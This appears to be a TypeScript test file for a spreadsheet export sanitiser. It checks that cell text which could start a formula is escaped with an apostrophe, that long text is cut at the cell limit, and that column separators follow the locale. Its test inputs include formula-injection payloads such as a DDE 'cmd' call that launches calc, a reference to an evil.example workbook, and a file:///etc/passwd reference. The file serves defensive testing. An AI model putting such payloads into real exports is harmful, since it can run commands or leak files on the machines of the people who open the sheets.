import { cellText, MAX_CELL, separatorFor, spreadsheetText } from "#api/core/rules/spreadsheet.rules.ts";

test("a text that begins like a formula gets an apostrophe", () => {
  for (const sign of ["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"])
    expect(spreadsheetText(`${sign}1+1`)).toBe(`'${sign}1+1`);
});

test("so does each part after a character that a spreadsheet may take for a separator, or on a new line", () => {
  for (const separator of [",", ";", "|", "\t", "\n", "\r\n"])
    expect(spreadsheetText(`Beams${separator}=HYPERLINK("x")${separator}@SUM(1)`)).toBe(
      `Beams${separator}'=HYPERLINK("x")${separator}'@SUM(1)`,
    );
});

test("a quotation mark before the sign changes nothing: a program that splits elsewhere reads it as the cell's own", () => {
  expect(spreadsheetText(`Beams,"=cmd|'/C calc'!A0," and steel`)).toBe(`Beams,'"=cmd|'/C calc'!A0," and steel`);
  expect(spreadsheetText('a;"=HYPERLINK(A1)')).toBe(`a;'"=HYPERLINK(A1)`);
});

test("other texts stay as they are", () => {
  for (const text of ["Lagos - Ibadan", "a=b; c = d", "50 %, +5 in reserve", "", "x-y@example.org"])
    expect(spreadsheetText(text)).toBe(text);
});

test.each([
  "- Méthode",
  "- Méthode d’exécution ; - Délais",
  "- 桥梁",
  "-",
  "--",
  "+236 70 01 02 03",
  "1) Beams\n- Steel\n- Concrete",
])("a sign that begins no formula stays alone: %p", (text) => {
  expect(spreadsheetText(text)).toBe(text);
});

test.each([
  "-1",
  "+5,5",
  "-A1",
  "-2+3",
  "+1*2",
  "-Méthode",
  "- A1",
  "+ 2+3",
  "+ 2 cranes",
  "- Sheet!A1",
  '- A1&"x"',
  "+ A1+'\\\\evil.example\\s\\[x.xlsx]S'!A1",
  "+ A1+'file:///etc/passwd'#$passwd.A1",
  "\u22121+1",
  "\uFE66A1",
  '"=1+1"',
  "- SUM(A1)",
  "- Méthode (annexe)",
  "- cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "- a=b",
  "-(1)",
  '-"x"',
  "--A1",
  "- @SUM",
  "\t- Méthode",
])("a sign that could begin one gets an apostrophe: %p", (text) => {
  expect(spreadsheetText(text)).toMatch(/^'/);
});

test("a text that is longer than a cell is cut and says so, never in the middle of a character", () => {
  const fits = "a".repeat(MAX_CELL);
  expect(cellText(fits)).toBe(fits);
  for (const long of [`${fits}b`, "🏗".repeat(20_000), `a${"🏗".repeat(20_000)}`]) {
    const cut = cellText(long);
    expect(cut.length).toBeLessThanOrEqual(MAX_CELL);
    expect(cut).toMatch(/ \[Cut: a spreadsheet cell holds 32,767 characters, this text has [\d,]+\.\]$/);
    expect(cut).not.toMatch(/\p{Surrogate}/u);
  }
});

test.each([
  ["en-US", ","],
  ["en-GB", ","],
  ["fr", ";"],
  ["fr-CF", ";"],
  ["de", ";"],
  ["pt-BR", ";"],
  ["es-MX", ","],
  ["sw", ","],
])("a spreadsheet in %s divides columns by %p", (language, separator) => {
  expect(separatorFor(language)).toBe(separator);
});
